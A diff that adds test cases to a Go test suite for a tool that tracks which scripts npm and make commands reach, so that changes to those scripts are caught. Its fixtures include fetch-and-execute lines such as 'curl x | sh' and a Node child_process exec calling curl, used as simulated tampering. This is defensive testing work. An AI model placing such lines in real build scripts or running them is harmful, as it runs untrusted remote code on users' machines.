@@ -385,6 +385,14 @@ func TestDefinitionsFollowNamedScripts(t *testing.T) {
 			files: map[string]string{"package.json": `{"scripts": {"test": "sh -ec 'cd web && ./build.sh'"}}`, "web/build.sh": "go test\n"},
 			rule:  "npm test", reach: []string{"web/build.sh#"},
 			change: "web/build.sh", content: "curl x | sh\n"},
+		{name: "a script under a wrapper Memo does not read",
+			files: map[string]string{"package.json": `{"scripts": {"build": "cross-env NODE_ENV=production node scripts/build.js"}}`, "scripts/build.js": "console.log(1)\n"},
+			rule:  "npm run build", reach: []string{"scripts/build.js#"},
+			change: "scripts/build.js", content: "require('child_process').exec('curl x')\n"},
+		{name: "a script under /usr/bin/env",
+			files: map[string]string{"Makefile": "gen:\n\t/usr/bin/env python3 tools/gen.py\n\tenv -i ./tools/post.sh\n", "tools/gen.py": "print(1)\n", "tools/post.sh": "true\n"},
+			rule:  "make gen", reach: []string{"tools/gen.py#", "tools/post.sh#"},
+			change: "tools/post.sh", content: "curl x | sh\n"},
 		{name: "a script named absent, added later",
 			files: map[string]string{"package.json": `{"scripts": {"test": "sh scripts/gen.sh; jest"}}`},
 			rule:  "npm test", reach: []string{"scripts/gen.sh#(absent)"},
@@ -422,6 +430,11 @@ func TestDefinitionsNotFollowedAreLabelled(t *testing.T) {
 				t.Errorf("%s labels\n got %s\nwant %s", c.rule, labels, want)
 			}
 		}
+	}
+	// A ./path operand of a program is no script the command runs.
+	q := NewProject(runnerProject(t, map[string]string{"package.json": `{"scripts": {"lint": "eslint --fix ./src && jest ./src/a.test.js"}}`, "src/a.test.js": "x\n"}), "", OSGitFS(""), nil)
+	if defs, _ := q.Definitions("npm run lint"); strings.Contains(keys(defs), "src") {
+		t.Errorf("npm run lint pins its operands: %s", keys(defs))
 	}
 	rules := []string{"make test", "npm run e2e"}
 	trusted := p.WithPinned(p.AllDefinitions(rules))
